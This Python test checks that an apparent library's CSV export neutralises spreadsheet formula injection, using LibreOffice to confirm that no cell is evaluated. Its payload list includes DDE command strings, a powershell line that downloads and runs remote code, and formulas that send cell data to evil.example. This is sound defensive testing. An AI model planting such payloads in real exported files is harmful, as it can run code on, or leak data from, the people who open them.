"""Exported CSVs opened in a real spreadsheet engine (LibreOffice Calc, headless) run no formula.

The test exports a list of formula-injection payloads with :func:`aimkit.io.export_csv`, has
LibreOffice import the file with formula evaluation switched on and save what its cells show,
and checks that every cell shows exactly the text that was exported. A control file holding
an un-neutralised ``=1+1`` must come back as ``2``: that proves evaluation really was on, so
the test can fail. CI installs Debian's ``libreoffice-calc-nogui`` (``.ci/run``); without
``soffice`` the test is skipped with that reason.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
import tempfile
from pathlib import Path

import pandas as pd
import pytest

from aimkit import io

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")

# CSV import: ",", '"', UTF-8, from line 1, standard cells, language default, quoted fields
# not forced to text, detect numbers, ..., evaluate formulas (token 13) = true
IMPORT = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
# CSV export of the cells as shown
EXPORT = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false"

PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=SUM(1+1)", "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "=IMPORTXML(\"http://x\",\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"A0\")",
    " =1+1", "  +1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "'=1+1", "\"=1+1",
    "\" =1+1\"", "=1+1\r=2+2", "x\r=1+1", "x\n=1+1", "\uff1d1+1", "\uff0b1+1",
    "\u00a0=1+1", "=1+1;=2+2", "=1+1,=2+2", "-2+3", "+32 470 12 34 56", "=\"=1+1\"",
    "=INDIRECT(\"A1\")", "=0x1+1", "=rand()",
]


def spreadsheet_view(paths: list[Path], folder: Path) -> dict[str, list[list[str]]]:
    """Import each CSV in LibreOffice with formulas evaluated; the cells as it shows them."""
    out = folder / "shown"
    command = [SOFFICE, f"-env:UserInstallation=file://{folder / 'profile'}", "--headless",
               f"--infilter={IMPORT}", "--convert-to", EXPORT, "--outdir", str(out),
               *map(str, paths)]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    return {p.name: list(csv.reader((out / p.name).open(encoding="utf-8", newline="")))
            for p in paths}


def cells(path: Path) -> list[list[str]]:
    return list(csv.reader(path.open(encoding="utf-8", newline="")))


def same_lines(row: list[str]) -> list[str]:
    """A row with every line break as LF (Calc keeps a break in a cell as LF)."""
    return [cell.replace("\r\n", "\n").replace("\r", "\n") for cell in row]


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed; CI "
                    "installs libreoffice-calc-nogui")
def test_no_exported_payload_runs_as_a_formula_in_libreoffice():
    assert len(PAYLOADS) >= 25
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        control = folder / "control.csv"
        control.write_text("payload\n=1+1\n", encoding="utf-8")
        exported = folder / "exported.csv"
        table = pd.DataFrame({"payload": PAYLOADS, "=1+1": PAYLOADS,
                              "n": range(len(PAYLOADS))})
        io.export_csv(table, exported, pseudonymise=[])
        shown = spreadsheet_view([control, exported], folder)
        written = cells(exported)
    assert shown["control.csv"][1] == ["2"], "LibreOffice did not evaluate the control formula"
    assert len(written) == len(PAYLOADS) + 1
    for row_written, row_shown in zip(written, shown["exported.csv"], strict=True):
        assert same_lines(row_shown) == same_lines(row_written)  # nothing evaluated
